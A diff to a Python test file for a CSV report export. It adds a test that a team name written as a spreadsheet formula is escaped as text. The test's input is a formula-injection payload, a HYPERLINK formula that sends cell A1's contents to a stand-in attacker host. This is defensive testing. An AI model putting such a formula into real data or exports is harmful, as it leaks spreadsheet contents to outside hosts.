@@ -4,6 +4,7 @@ who may read it, its bad parameters, its CSV and its place in the OpenAPI docume
 from datetime import UTC, date, datetime
 
 import pytest
+import sqlalchemy as sa
 
 from tests.conftest import TEST_NOW
 
@@ -366,6 +367,22 @@ def test_the_csv_opens_in_excel_with_chinese_names_and_money_as_decimals(client,
     assert lines[0]["recovered"] == "1200.00" and lines[0]["recovered_minor"] == "120000"
     assert lines[0]["outcome:promise_to_pay"] == "1" and lines[0]["flags:cn.hours"] == "1"
     assert lines[0]["roll:M1>M2"] == "1.0"
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_when_the_csv_is_opened_in_a_spreadsheet(app, client, world):
+    import csv
+    import io
+
+    from app.extensions import db
+    from app.models import Team
+
+    with app.app_context():
+        team = db.session.scalars(sa.select(Team).where(Team.code == "TEAM-A")).one()
+        team.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+        db.session.commit()
+    response = _get(client, world, WEEK + "&format=csv")
+    lines = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    assert lines[0]["label"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 def test_the_report_is_described_in_the_openapi_document(client, world):
